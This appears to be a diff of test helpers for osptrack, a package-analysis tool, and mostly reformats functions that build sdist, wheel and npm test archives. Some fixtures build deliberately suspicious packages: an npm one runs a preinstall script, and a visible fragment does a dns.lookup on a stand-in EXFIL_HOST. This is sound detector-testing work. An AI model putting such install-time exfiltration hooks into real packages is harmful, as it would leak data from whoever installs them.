@@ -50,7 +50,10 @@ def targz_writer(path: Path, compresslevel: int = 9) -> Iterator[tarfile.TarFile
 def targz_bytes(members: dict[str, bytes | str], mode: int = 0o644) -> bytes:
     """A reproducible .tar.gz of `members` (text is UTF-8 encoded)."""
     buf = io.BytesIO()
-    with gzip.GzipFile(filename="", mode="wb", fileobj=buf, mtime=0) as gz, tarfile.open(fileobj=gz, mode="w") as tf:
+    with (
+        gzip.GzipFile(filename="", mode="wb", fileobj=buf, mtime=0) as gz,
+        tarfile.open(fileobj=gz, mode="w") as tf,
+    ):
         for name, data in members.items():
             _add(tf, name, data.encode() if isinstance(data, str) else data, mode)
     return buf.getvalue()
@@ -64,7 +67,9 @@ def zip_entry(name: str, compress_type: int = zipfile.ZIP_STORED) -> zipfile.Zip
     return info
 
 
-def make_sdist(dest: Path, name: str, version: str, setup_py: str, files: dict[str, str] | None = None) -> Path:
+def make_sdist(
+    dest: Path, name: str, version: str, setup_py: str, files: dict[str, str] | None = None
+) -> Path:
     """A setuptools sdist `name-version.tar.gz` with PKG-INFO, setup.py and module files."""
     top = f"{name}-{version}"
     pkg_info = f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\nSummary: osptrack test package\n"
@@ -76,14 +81,18 @@ def make_sdist(dest: Path, name: str, version: str, setup_py: str, files: dict[s
     return path
 
 
-def make_wheel(dest: Path, name: str, version: str, files: dict[str, str], requires: tuple[str, ...] = ()) -> Path:
+def make_wheel(
+    dest: Path, name: str, version: str, files: dict[str, str], requires: tuple[str, ...] = ()
+) -> Path:
     """A pure-Python wheel with METADATA (and Requires-Dist), WHEEL and RECORD."""
     dist = name.replace("-", "_")
     info = f"{dist}-{version}.dist-info"
     members = dict(files)
     deps = "".join(f"Requires-Dist: {r}\n" for r in requires)
     members[f"{info}/METADATA"] = f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n{deps}"
-    members[f"{info}/WHEEL"] = "Wheel-Version: 1.0\nGenerator: osptrack-tests\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
+    members[f"{info}/WHEEL"] = (
+        "Wheel-Version: 1.0\nGenerator: osptrack-tests\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
+    )
     members[f"{info}/RECORD"] = "".join(f"{rel},,\n" for rel in [*members, f"{info}/RECORD"])
     path = dest / f"{dist}-{version}-py3-none-any.whl"
     with zipfile.ZipFile(path, "w") as zf:
@@ -92,8 +101,15 @@ def make_wheel(dest: Path, name: str, version: str, files: dict[str, str], requi
     return path
 
 
-def make_npm(dest: Path, name: str, version: str, files: dict[str, str], scripts: dict[str, str] | None = None,
-             main: str = "index.js", extra: dict | None = None) -> Path:
+def make_npm(
+    dest: Path,
+    name: str,
+    version: str,
+    files: dict[str, str],
+    scripts: dict[str, str] | None = None,
+    main: str = "index.js",
+    extra: dict | None = None,
+) -> Path:
     """An npm tarball (`package/` prefix, as `npm pack` lays it out)."""
     manifest = {"name": name, "version": version, "main": main, "license": "MIT", **(extra or {})}
     if scripts:
@@ -158,13 +174,18 @@ dns.lookup("{EXFIL_HOST}", 4, (err, address) => {{
 
 
 def suspicious_sdist(dest: Path, name: str = "osptrack-evil", version: str = "1.0.0") -> Path:
-    setup_py = PY_SUSPICIOUS + f"\nfrom setuptools import setup\nsetup(name={name!r}, version={version!r}, py_modules=['osptrack_evil'])\n"
+    setup_py = (
+        PY_SUSPICIOUS
+        + f"\nfrom setuptools import setup\nsetup(name={name!r}, version={version!r}, py_modules=['osptrack_evil'])\n"
+    )
     return make_sdist(dest, name, version, setup_py, {"osptrack_evil.py": "VALUE = 1\n"})
 
 
 def suspicious_npm(dest: Path, name: str = "osptrack-evil", version: str = "1.0.0") -> Path:
     return make_npm(
-        dest, name, version,
+        dest,
+        name,
+        version,
         {"preinstall.js": JS_SUSPICIOUS, "index.js": "module.exports = { value: 1 };\n"},
         scripts={"preinstall": "node preinstall.js"},
     )
@@ -196,8 +217,11 @@ def analyze_all_phases(ecosystem: str, archive: Path, out: Path, timeout_s: floa
     from osptrack.run import AnalyzeOptions, analyze
     from osptrack.target import parse_target
 
-    analyze(parse_target(ecosystem, str(archive)), AnalyzeOptions(phases=("install", "import", "execute"),
-                                                                  timeout_s=timeout_s), out)
+    analyze(
+        parse_target(ecosystem, str(archive)),
+        AnalyzeOptions(phases=("install", "import", "execute"), timeout_s=timeout_s),
+        out,
+    )
     result = json.loads((out / "result.json").read_text())
     result["_run_dir"] = str(out)
     return result
